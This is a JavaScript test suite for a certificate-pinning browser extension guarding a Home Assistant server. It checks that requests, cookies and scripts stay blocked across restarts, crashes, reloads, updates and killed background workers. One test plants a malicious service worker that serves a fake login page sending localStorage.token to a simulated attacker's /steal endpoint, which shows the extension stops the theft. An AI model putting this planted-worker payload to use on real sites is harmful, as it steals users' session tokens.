// Restarts, crashes, reloads and backgrounds that end at any moment: afterwards the gate is shut, or open with its end in storage. And what
// is left in Chromium, where no rule is asked for the WebSockets of shared and service workers: with the permission over cookies these go
// without cookies while the gate is shut.
import { after, before, describe, test } from "./trial.mjs";
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { attacker } from "./attacker.mjs";
import { assertOnlyProbes } from "./asserts.mjs";
import { startLab } from "./lab.mjs";
import { endBrowser, removeFolder } from "./machine.mjs";
import { KINDS, cannotStay, go, isAtGate, launch, leave, sleep, until, where } from "./browser.mjs";

/** How long something that must not arrive may take to arrive. */
const GRACE = 1000;
/** The milliseconds after which the background ends. */
const DELAYS = [0, 5, 10, 20, 35, 50, 75, 110, 160, 250];
/** The first rules that open an address, and that let a probe pass (extension/src/browser/rules.rs). */
const OPEN = 100_000;
const PROBE = 1_000_000;
const WAYS = ["fetch", "frame", "picture", "socket"];

/** A page of another site asks for things of the home, in four ways. */
const askFor = (page, lab, mark) =>
    page.evaluate(
        (home, mark) => {
            new Image().src = `${home}/frame?picture-${mark}`;
            fetch(`${home}/frame?fetch-${mark}`, { mode: "no-cors", credentials: "include" }).catch(() => {});
            const frame = document.createElement("iframe");
            frame.src = `${home}/frame?frame-${mark}`;
            document.body.append(frame);
            new WebSocket(`${home.replace("https", "wss")}/api/websocket?socket-${mark}`);
        },
        lab.home,
        mark,
    );

/** Which of the four arrived. */
const arrived = async (lab, mark) => {
    const targets = (await lab.requests()).map(({ target }) => target.split("?")[1]);
    return WAYS.filter((way) => targets.includes(`${way}-${mark}`));
};

/** The control: while the gate is open all four arrive, so the way of asking is known to work. */
async function assertAllArrive(page, lab, mark) {
    await askFor(page, lab, mark);
    await until(async () => (await arrived(lab, mark)).length === WAYS.length, { why: `all of ${WAYS} arrive` });
}

const elsewhere = async (own, lab) => {
    const page = await own.browser.newPage();
    await leave(page, `${lab.elsewhere}/`);
    return page;
};

const assertNoGreen = async (own) => {
    for (const { badge, title } of await own.action("")) assert.notEqual(badge, "✓", title);
};

/** What the browser holds, asked from a page of the extension; the background is not asked. */
async function held(own, ...homes) {
    own.asker ??= await own.page("options.html");
    return own.asker.evaluate(async (homes) => {
        const { ready = [], standings = "{}" } = await chrome.storage.session.get(["ready", "standings"]);
        const { pins = "{}" } = await chrome.storage.local.get("pins");
        const cookies = {};
        for (const home of chrome.contentSettings ? homes : []) {
            cookies[home] = (await chrome.contentSettings.cookies.get({ primaryUrl: `${home}/` })).setting;
        }
        return {
            cookies,
            dynamic: await chrome.declarativeNetRequest.getDynamicRules(),
            session: await chrome.declarativeNetRequest.getSessionRules(),
            scripts: await chrome.scripting.getRegisteredContentScripts(),
            sites: (JSON.parse(pins).sites ?? []).map(({ address }) => address),
            pinned: Object.fromEntries((JSON.parse(pins).sites ?? []).map(({ address, pins = [] }) => [address, pins.map((pin) => pin.spki_sha256)])),
            standings: JSON.parse(standings),
            ready,
        };
    }, homes);
}

const hostOf = (home) => new URL(home).hostname;
const shutting = ({ dynamic }, home) => dynamic.filter(({ condition }) => condition.requestDomains?.[0] === hostOf(home));
const opening = ({ session }, home) => {
    const urls = [`|${home}/`, `|${home.replace("https", "wss")}/`];
    return session.filter(({ id, condition }) => id >= OPEN && id < PROBE && urls.includes(condition.urlFilter));
};
const probing = ({ session }) => session.filter(({ id }) => id >= PROBE);
const script = ({ scripts }, name) => scripts.find(({ id }) => id === name);
const isStopped = (state, home) => {
    const { matches = [], excludeMatches = [] } = script(state, "stop") ?? {};
    return matches.includes(`*://${hostOf(home)}/*`) && !excludeMatches?.includes(`${home}/*`);
};

/** Everything that keeps a guarded address shut is in its place. */
const isWhollyShut = (state, home) =>
    shutting(state, home).length > 0 &&
    opening(state, home).length === 0 &&
    isStopped(state, home) &&
    Boolean(script(state, "veil")?.matches.includes(`*://${hostOf(home)}/*`)) &&
    [undefined, "block"].includes(state.cookies[home]);

/** And what keeps it open. */
const isWhollyOpen = (state, home) => opening(state, home).length > 0 && !isStopped(state, home) && state.cookies[home] !== "block";

/** For a message. */
const inShort = ({ cookies, dynamic, session, scripts, ready, sites }) => {
    const ids = (rules) => rules.map(({ id }) => id);
    const registered = scripts.map(({ id, matches, excludeMatches }) => [id, matches, excludeMatches]);
    return JSON.stringify({ cookies, dynamic: ids(dynamic), session: ids(session), registered, ready, sites });
};

/** What the browser has written down of the cookies that are blocked. It does that within ten seconds. */
const blockedOnDisk = (folder, id) => {
    const preferences = JSON.parse(readFileSync(join(folder, "profile/Default/Preferences"), "utf8"));
    return (preferences.extensions?.settings?.[id]?.content_settings ?? []).map(({ primaryPattern }) => primaryPattern);
};

for (const kind of KINDS) {
    describe(`an end and a start of ${kind}`, { skip: cannotStay(kind) }, () => {
        let lab, own, thief;
        const folder = mkdtempSync(join(tmpdir(), `doorlight-restart-${kind}-`));
        const start = async (args = []) => {
            const local = [lab.host, lab.other_host, `sub.${lab.host}`].join(",");
            const prefs = { "network.dns.localDomains": local, "browser.sessionstore.resume_from_crash": false };
            own = await launch(kind, lab, { folder, isInstalled: true, isLoaded: true, args, prefs });
        };
        /** Chromium has the extension as soon as one of its files can be shown; that asks nobody. Firefox has it before any page. */
        const isLoaded = async () => {
            if (kind === "firefox") return;
            const page = await own.browser.newPage();
            await until(async () => Boolean(await page.goto(`${own.base}/onward.html`, { timeout: 3000 })), { why: "the extension" });
            await page.close();
        };
        const crash = async () => {
            const id = own.base.split("//")[1];
            // The worst that the disk can hold: that cookies are not blocked.
            const isWritten = () => kind === "firefox" || !blockedOnDisk(folder, id).includes(lab.host);
            await until(isWritten, { why: "the browser writes its settings down" });
            endBrowser(folder);
            await own.close();
        };
        const open = async () => {
            await lab.present("good");
            assert.equal((await own.ask({ ask: "check-again", address: lab.address })).light, "trusted");
        };
        /** Goes to the home, and is there. */
        const visit = async (path) => {
            const page = await own.browser.newPage();
            await go(page, `${lab.home}${path}`);
            await until(async () => (await where(page)) === `${lab.home}${path}`, { why: `arriving at ${path}` });
            return page;
        };
        const assertShut = async (mark) => {
            const other = await elsewhere(own, lab);
            await askFor(other, lab, mark);
            await sleep(GRACE);
            assertOnlyProbes(await lab.requests());
            const page = await own.browser.newPage();
            await go(page, `${lab.home}/echo?secret-${mark}`);
            await until(() => isAtGate(page), { why: "the gate" });
            await until(async () => (await own.status()).light === "danger", { why: "Danger" });
            await sleep(GRACE / 2);
            assertOnlyProbes(await lab.requests());
            await assertNoGreen(own);
            let state;
            const isShut = async () => isWhollyShut((state = await held(own, lab.home)), lab.home);
            await until(isShut, { why: "everything in its place" }).catch((error) => {
                throw new Error(`${error.message}: ${inShort(state)}`);
            });
        };
        /** The session's storage goes with a reload. */
        const isAnotherLife = async (life) => {
            const page = await own.browser.newPage();
            await page.goto(`${own.base}/options.html`, { timeout: 3000 }).catch(() => {});
            const now = await page.evaluate(async () => (await chrome.storage.session.get("life")).life ?? "none").catch(() => undefined);
            if (now !== undefined && now !== life) own.asker = page;
            else await page.close();
            return Boolean(own.asker);
        };
        before(async () => {
            lab = await startLab();
            thief = await attacker(lab);
        });
        after(async () => {
            await own?.close();
            lab?.stop();
            thief?.stop();
            removeFolder(folder);
        });

        test("a guard is kept over a restart, and the gate is shut before anybody asks the extension", async () => {
            await start();
            assert.equal((await own.guard()).light, "trusted");
            const page = await visit("/");
            await page.evaluate(() => (document.cookie = "lasting=secret; max-age=99999; Secure; SameSite=None"));
            await visit("/echo?good");
            const isGood = ({ target, headers }) => target === "/echo?good" && headers.cookie?.includes("lasting");
            assert.ok((await lab.requests()).some(isGood), "with its cookies");
            await assertAllArrive(await elsewhere(own, lab), lab, "open");
            await own.close();
            await lab.present("A5");
            await lab.clear();
            await start();
            await isLoaded();
            await assertShut("restart");
            await open();
            await assertAllArrive(await elsewhere(own, lab), lab, "again");
        });

        test("a browser that crashes while the gate is open starts with a gate that is shut", async () => {
            await open();
            await visit("/frame?crash");
            await until(async () => (await own.action(lab.home)).some(({ badge }) => badge === "✓"), { why: "green" });
            await crash();
            await lab.present("A5");
            await lab.clear();
            await start();
            await isLoaded();
            await assertShut("crash");
            await open();
            await visit("/frame?after-crash");
        });

        const isChromium = kind === "chromium";
        const skip = !isChromium && "only Chromium has that setting";
        test("a browser that crashes right after the gate was shut blocks cookies again", { skip }, async () => {
            await open();
            const id = own.base.split("//")[1];
            await until(() => !blockedOnDisk(folder, id).includes(lab.host), { why: "the browser writes its settings down" });
            await lab.present("A5");
            assert.equal((await own.ask({ ask: "check-again", address: lab.address })).light, "danger");
            assert.equal((await held(own, lab.home)).cookies[lab.home], "block");
            endBrowser(folder);
            await own.close();
            assert.deepEqual(blockedOnDisk(folder, id), [], "the control: that it is to be blocked was not written down yet");
            await lab.clear();
            await start();
            await isLoaded();
            await assertShut("crash-shut");
            await open();
        });

        for (const what of ["reload", "update"]) {
            const skip = what === "update" && !isChromium && "in Firefox an update is another package, and the driver has none to offer";
            test(`${what === "reload" ? "a reload" : "an update"} of the extension while the gate is open`, { skip }, async (context) => {
                await open();
                const page = await visit("/poll");
                await until(() => page.evaluate(() => Number(document.body.dataset.polls) > 1), { why: "the page asks" });
                await lab.present("A5");
                await lab.clear();
                if (what === "update") {
                    const file = join(folder, "extension/manifest.json");
                    const manifest = { ...JSON.parse(readFileSync(file, "utf8")), version: "0.1.1" };
                    writeFileSync(file, JSON.stringify(manifest));
                }
                const life = crypto.randomUUID();
                await own.asker.evaluate((life) => chrome.storage.session.set({ life }), life);
                // The page that asks for it goes with the old version, and with it the answer.
                await Promise.race([own.asker.evaluate(() => chrome.runtime.reload()).catch(() => {}), sleep(2000)]);
                own.asker = undefined;
                await until(() => isAnotherLife(life), { why: "another life of the extension" });
                if (what === "update") {
                    assert.equal(await own.asker.evaluate(() => chrome.runtime.getManifest().version), "0.1.1");
                }
                // The new version's rules are loaded, and what left before has arrived.
                await until(() => own.asker.evaluate(async () => (await chrome.declarativeNetRequest.getDynamicRules()).length > 0));
                await sleep(500);
                const slipped = (await lab.requests()).filter(({ method }) => method !== "HEAD");
                context.diagnostic(`${slipped.length} requests of an open page until the new version was there`);
                await lab.clear();
                await sleep(GRACE);
                assertOnlyProbes(await lab.requests());
                await until(async () => !(await where(page)).startsWith(lab.home), { why: "the page has left" });
                await assertShut(what);
                await open();
                await visit(`/frame?after-${what}`);
            });
        }

        test("a service worker that was planted gets nothing after a restart", async (context) => {
            const steal = thief.https.url(`sub.${lab.host}`, "/steal");
            const planted = `<!doctype html><title>Home Assistant</title><input type="password"><script>
                fetch("${steal}?" + localStorage.token, { mode: "no-cors", keepalive: true });</script>`;
            thief.on("/steal", "");
            thief.on("/page", "<!doctype html><title>Home</title>");
            thief.on("/sw.js", {
                type: "text/javascript",
                body: `self.addEventListener("install", () => self.skipWaiting());
                    self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
                    const answer = () => new Response(${JSON.stringify(planted)}, { headers: { "content-type": "text/html" } });
                    self.addEventListener("fetch", (event) => event.request.mode === "navigate" && event.respondWith(answer()));`,
            });
            const stolen = () => thief.log.filter(({ url }) => url.startsWith("/steal?"));
            await open();
            await lab.command({ do: "upstream", address: `127.0.0.1:${thief.http.port}` });
            const page = await visit("/page");
            await page.evaluate(async () => {
                localStorage.token = "secret-token";
                await navigator.serviceWorker.register("/sw.js");
                await navigator.serviceWorker.ready;
            });
            await lab.command({ do: "upstream" });
            const again = await own.browser.newPage();
            await go(again, `${lab.home}/auth/authorize`);
            await until(() => stolen().length > 0, { why: "the control: the planted page sends the token while the gate is open" });
            assert.match(stolen()[0].url, /secret-token/);
            await crash();
            await lab.present("A5");
            await lab.clear();
            thief.log.length = 0;
            await start([`${lab.home}/auth/authorize?start`]);
            await until(async () => (await own.status()).is_guarded);
            await until(
                async () => (await Promise.all((await own.browser.pages()).map(where))).every((place) => !place.startsWith(lab.home)),
                { why: "no page of the home left open" },
            );
            const early = (await lab.requests()).filter(({ server, method }) => server === "home" && method !== "HEAD");
            context.diagnostic(`before the extension ran: ${stolen().length} tokens were sent, ${early.length} requests arrived`);
            if (kind === "firefox") assert.deepEqual(stolen(), []);
            await lab.clear();
            thief.log.length = 0;
            for (const path of ["/auth/authorize?secret", "/", "/frame"]) {
                const page = await own.browser.newPage();
                await go(page, `${lab.home}${path}`);
                await until(() => isAtGate(page), { why: `the gate instead of ${path}` });
            }
            await sleep(GRACE);
            assert.deepEqual(stolen(), []);
            assertOnlyProbes(await lab.requests());
            await assertNoGreen(own);
        });
    });

    // Firefox's rules and its listener hold the sockets of workers too, and its driver cannot end a background.
    if (kind !== "chromium") continue;

    describe("a background that ends at any moment, in chromium", () => {
        let lab, own, thief, sub, other;
        before(async () => {
            lab = await startLab();
            thief = await attacker(lab);
            sub = thief.https.url(`sub.${lab.host}`, "");
            own = await launch(kind, lab, { hosts: [`sub.${lab.host}`] });
            await own.guard();
            other = await elsewhere(own, lab);
        });
        after(async () => {
            await own?.close();
            lab?.stop();
            thief?.stop();
        });
        const addressOf = (home) => home.replace("https://", "");
        /** A background that was killed while its own debugger was attached starts paused: it is woken as the gate page does it. */
        const firmly = async (message) => {
            const answer = await until(
                () =>
                    own.asker.evaluate(async (message) => {
                        const silence = new Promise((done) => setTimeout(done, 2500, null));
                        const answer = await Promise.race([chrome.runtime.sendMessage(message).catch(() => null), silence]);
                        if (answer) return answer;
                        for (const { attached, id, url } of await chrome.debugger.getTargets()) {
                            if (attached && url === chrome.runtime.getURL("background.js")) {
                                await chrome.debugger.sendCommand({ targetId: id }, "Runtime.runIfWaitingForDebugger").catch(() => {});
                            }
                        }
                        return null;
                    }, message),
                { within: 60_000, why: `an answer to ${message.ask}` },
            );
            return answer;
        };
        const home = (ask, more = {}) => firmly({ ask, address: lab.address, ...more });
        const look = () => held(own, lab.home, sub);
        const closeAll = async () => {
            for (const page of await own.browser.pages()) {
                const place = await where(page);
                if (place.startsWith(lab.home) || place.includes("/gate.html")) await page.close().catch(() => {});
            }
        };
        /** The neighbour: another guarded host, whose way is open because its owner went past the gate, or shut. */
        const neighbour = async (isOpen) => {
            const address = addressOf(sub);
            let known = await firmly({ ask: "status", url: sub });
            if (!known.is_guarded) known = await firmly({ ask: "guard", address });
            if (isOpen) {
                const sha256 = known.report.certificate.sha256;
                const past = await firmly({ ask: "except", address, typed: hostOf(sub), sha256 });
                assert.equal(past.light, "exception");
            } else if (known.open_until) {
                await firmly({ ask: "unguard", address });
                await firmly({ ask: "guard", address });
            }
        };
        const ofNeighbour = (state) =>
            JSON.stringify({
                shutting: shutting(state, sub).map(({ id }) => id),
                isOpen: isWhollyOpen(state, sub),
                isShut: isWhollyShut(state, sub),
                standing: state.standings[addressOf(sub)],
                isReady: state.ready.includes(hostOf(sub)),
                isGuarded: state.sites.includes(addressOf(sub)),
            });
        /** Nothing is open that is not in storage with its end, and because of a report that opens. */
        const assertOpenIsStored = (state) => {
            if (opening(state, lab.home).length === 0) return;
            const standing = state.standings[lab.address];
            assert.ok(Date.parse(standing?.fresh_until) > Date.now(), `open until ${standing?.fresh_until}`);
            const { verdict, evidence } = standing.report;
            const hasPin = evidence.some(({ check, outcome }) => check === "pin" && outcome === "pass");
            assert.ok(verdict === "trusted" || (verdict === "attention" && hasPin), verdict);
            // The key is pinned still: one that was taken away opens nothing any more.
            assert.ok(state.pinned[lab.address].includes(standing.report.certificate.spki_sha256), `open by a key that is not pinned: ${inShort(state)}`);
        };
        const ready = async () => {
            await closeAll();
            await lab.present("good");
            await own.ask({ ask: "import-pins", json: lab.pins });
            await home("guard");
            assert.equal((await home("check-again")).light, "trusted");
        };
        const afresh = async () => {
            await closeAll();
            await lab.present("good");
            await home("unguard");
        };
        const say = (message) => own.asker.evaluate((message) => void chrome.runtime.sendMessage(message).catch(() => {}), message);
        const tell = (ask, more = {}) => say({ ask, address: lab.address, ...more });

        const acts = {
            "a visit that opens": {
                async prepare() {
                    await ready();
                    await own.expire();
                },
                async act() {
                    const page = await own.browser.newPage();
                    const url = `${lab.home}/frame?opens`;
                    const visit = go(page, url);
                    return async () => {
                        await visit;
                        await until(async () => (await where(page)) === url, { why: "arriving" });
                        await until(async () => isWhollyOpen(await look(), lab.home), { why: "all of it open" });
                    };
                },
            },
            "a check that shuts": {
                async prepare() {
                    await ready();
                    await lab.present("A5");
                },
                act: () => tell("check-again"),
            },
            guard: { prepare: afresh, act: () => tell("guard") },
            unguard: { prepare: ready, act: () => tell("unguard") },
            unpin: {
                prepare: ready,
                async act() {
                    const { report } = await home("status", { url: lab.home });
                    return tell("unpin", { spki_sha256: report.certificate.spki_sha256 });
                },
            },
            accept: {
                async prepare() {
                    await afresh();
                    const { light, report } = await home("guard");
                    assert.equal(light, "attention");
                    this.sha256 = report.certificate.sha256;
                },
                act() {
                    return tell("accept", { sha256: this.sha256 });
                },
            },
        };

        for (const [n, [name, one]] of Object.entries(acts).entries()) {
            // Both for a neighbour that is open and for one that is shut.
            const isNeighbourOpen = n % 2 === 0;
            test(`ended during ${name}, beside an address that is ${isNeighbourOpen ? "open" : "shut"}`, async (context) => {
                const ends = {};
                const failures = [];
                for (const delay of DELAYS) {
                    const at = (what) => `${what}, ended after ${delay} ms`;
                    await one.prepare();
                    await neighbour(isNeighbourOpen);
                    const before = ofNeighbour(await look());
                    const finish = await one.act();
                    await sleep(delay);
                    await own.killWorker();
                    assertOpenIsStored(await look());
                    const status = await firmly({ ask: "status", url: lab.home });
                    await finish?.();
                    let state;
                    const isSettled = async () => {
                        state = await look();
                        assertOpenIsStored(state);
                        return probing(state).length === 0 && ofNeighbour(state) === before;
                    };
                    const calm = at("no probe's rule left, and the neighbour as before");
                    await until(isSettled, { within: 15_000, why: calm }).catch((error) => {
                        throw new Error(`${error.message}: ${JSON.stringify(probing(state))} ${before} ${ofNeighbour(state)}`);
                    });
                    const isGuarded = state.sites.includes(lab.address);
                    const isInPlace = async () => {
                        state = await look();
                        if (!isGuarded) return shutting(state, lab.home).length === 0 && state.cookies[lab.home] !== "block";
                        const isOpen = isWhollyOpen(state, lab.home) && shutting(state, lab.home).length > 0;
                        return isOpen || isWhollyShut(state, lab.home);
                    };
                    const wanted = at(isGuarded ? "guarded: all of it shut or open" : "not guarded: its rules are gone");
                    const isRight = await until(isInPlace, { within: 10_000, why: wanted }).then(() => true, (error) => {
                        failures.push(`${error.message}: ${status.light} ${inShort(state)}`);
                        return false;
                    });
                    const end = !isGuarded ? "unguarded" : opening(state, lab.home).length ? "open" : "shut";
                    ends[end] = (ends[end] ?? 0) + 1;
                    if (!isRight) continue;
                    // And whatever became of it: an impostor gets nothing.
                    await lab.present("A5");
                    const mark = `${n}-${delay}`;
                    if (isGuarded) {
                        // Another key is Danger for a home whose key is pinned, and waits for the user for one
                        // whose isn't (yet, or any more); what is not ready has no light.
                        const light = (await home("check-again")).light;
                        const lights = ["danger"];
                        if (!state.pinned[lab.address].length) lights.push("attention");
                        if (name === "guard") lights.push("attention", "unchecked");
                        assert.ok(lights.includes(light), at(light));
                        assert.deepEqual(opening(await look(), lab.home), []);
                        await lab.clear();
                        await askFor(other, lab, mark);
                        await sleep(GRACE / 4);
                        assertOnlyProbes(await lab.requests());
                        await assertNoGreen(own);
                    } else {
                        await assertAllArrive(other, lab, mark);
                    }
                }
                context.diagnostic(JSON.stringify(ends));
                assert.deepEqual(failures, []);
            });
        }
    });

    for (const hasCookies of [true, false]) {
        const without = hasCookies ? "with" : "without";
        test(`sockets of workers while the gate is shut, ${without} the permission over cookies`, async () => {
            const lab = await startLab();
            const thief = await attacker(lab);
            const subHost = `sub.${lab.host}`;
            const sub = thief.https.url(subHost, "");
            const own = await launch(kind, lab, { hasCookies, hosts: [subHost] });
            try {
                thief.on("/page", "<!doctype html><title>Sibling</title>");
                const connect = "({ data }) => { try { new WebSocket(data).onerror = () => {}; } catch {} }";
                const type = "text/javascript";
                thief.on("/shared.js", { type, body: `onconnect = ({ ports: [port] }) => (port.onmessage = ${connect});` });
                thief.on("/worker.js", { type, body: `oninstall = () => skipWaiting(); onmessage = ${connect};` });
                assert.equal((await own.guard()).light, "trusted");
                const selfTest = await own.ask({ ask: "self-test", address: lab.address });
                assert.equal(selfTest.blocks_cookies, hasCookies);
                const visit = await own.browser.newPage();
                await go(visit, `${lab.home}/`);
                await until(async () => (await where(visit)) === `${lab.home}/`);
                await visit.evaluate(() => (document.cookie = "none=secret; max-age=99999; Secure; SameSite=None"));
                const sibling = await own.browser.newPage();
                await leave(sibling, `${sub}/page`);
                await sibling.evaluate(() => (document.cookie = "sub=secret; max-age=99999; Secure; SameSite=None"));
                await sibling.evaluate(async () => {
                    await navigator.serviceWorker.register("/worker.js");
                    await navigator.serviceWorker.ready;
                });
                /** The handshakes of a shared worker and of a service worker, by the cookies that they carried. */
                const handshakes = async (mark) => {
                    await sibling.evaluate(
                        async (url, mark) => {
                            new SharedWorker("/shared.js").port.postMessage(`${url}?shared-${mark}`);
                            (await navigator.serviceWorker.ready).active.postMessage(`${url}?service-${mark}`);
                        },
                        `${lab.home.replace("https", "wss")}/api/websocket`,
                        mark,
                    );
                    const find = async () => {
                        const all = await lab.requests();
                        const of = (who) => all.find(({ target }) => target === `/api/websocket?${who}-${mark}`);
                        const [shared, service] = [of("shared"), of("service")];
                        return shared && service && [shared.headers.cookie, service.headers.cookie];
                    };
                    return until(find, { why: `both handshakes, ${mark}` });
                };
                const assertCarried = (cookies, mark) => {
                    for (const cookie of cookies) assert.match(cookie ?? "none at all", /none=secret/, mark);
                };
                const setting = async (home) => (hasCookies ? (await held(own, home)).cookies[home] : undefined);
                const check = async (name) => {
                    await lab.present(name);
                    return (await own.ask({ ask: "check-again", address: lab.address })).light;
                };
                const pageGets = async (mark) => {
                    const page = await own.browser.newPage();
                    await go(page, `${lab.home}/echo?${mark}`);
                    const find = async () => (await lab.requests()).find(({ target }) => target === `/echo?${mark}`);
                    const { headers } = await until(find, { why: "the page arrives" });
                    assert.match(headers.cookie ?? "", /none=secret/);
                    assert.match(headers.cookie ?? "", /session=secret-cookie/);
                    return page;
                };

                assertCarried(await handshakes("open"), "the control: while the gate is open they carry cookies");
                for (const round of [1, 2]) {
                    assert.equal(await check("A5"), "danger");
                    await lab.clear();
                    const shut = await handshakes(`shut-${round}`);
                    if (hasCookies) assert.deepEqual(shut, [undefined, undefined]);
                    // The hole that is left without the permission (docs/threat-model.md).
                    else assertCarried(shut, "without the permission nothing takes them away");
                    const others = (await lab.requests()).filter(({ websocket }) => !websocket);
                    assertOnlyProbes(others);
                    assert.equal(await setting(lab.home), hasCookies ? "block" : undefined);
                    assert.equal(await setting(sub), hasCookies ? "allow" : undefined, "a sibling's cookies stay");
                    assert.equal(await check("good"), "trusted");
                    assertCarried(await handshakes(`open-${round}`), "open again");
                    const page = await pageGets(`page-${round}`);
                    assert.equal(await setting(lab.home), hasCookies ? "allow" : undefined);
                    await page.close();
                }

                // The other way round: a worker of the home's page, while the gate is open, and the sibling as the second guarded host.
                const home = await pageGets("second");
                const toSub = async (mark) => {
                    await home.evaluate((url) => {
                        const connect = "({ data }) => { new WebSocket(data).onerror = () => {}; }";
                        const code = `onconnect = ({ ports: [port] }) => (port.onmessage = ${connect});`;
                        new SharedWorker(URL.createObjectURL(new Blob([code], { type: "text/javascript" }))).port.postMessage(url);
                    }, `${sub.replace("https", "wss")}/socket?${mark}`);
                    return until(() => thief.log.find(({ url }) => url === `/socket?${mark}`), { why: `a handshake, ${mark}` });
                };
                assert.match((await toSub("unguarded")).headers.cookie ?? "", /sub=secret/, "the control");
                const guarded = await own.ask({ ask: "guard", address: sub.replace("https://", "") });
                assert.ok(guarded.is_guarded && !guarded.open_until, `the second host is guarded and shut: ${guarded.trouble?.code}`);
                const kept = async (mark) => {
                    const { cookie } = (await toSub(mark)).headers;
                    if (hasCookies) assert.equal(cookie, undefined, mark);
                    else assert.match(cookie ?? "", /sub=secret/, mark);
                    assert.equal(await setting(sub), hasCookies ? "block" : undefined, mark);
                };
                await kept("guarded");
                for (const name of ["renewed", "good"]) {
                    await own.expire();
                    assert.equal(await check(name), "trusted");
                    assert.equal(await setting(lab.home), hasCookies ? "allow" : undefined, "the first is open");
                    await kept(`opened-${name}`);
                }
                await own.ask({ ask: "unguard", address: sub.replace("https://", "") });
                assert.match((await toSub("unguarded-again")).headers.cookie ?? "", /sub=secret/);
                assert.equal(await setting(sub), hasCookies ? "allow" : undefined);
            } finally {
                await own.close();
                lab.stop();
                thief.stop();
            }
        });
    }
}
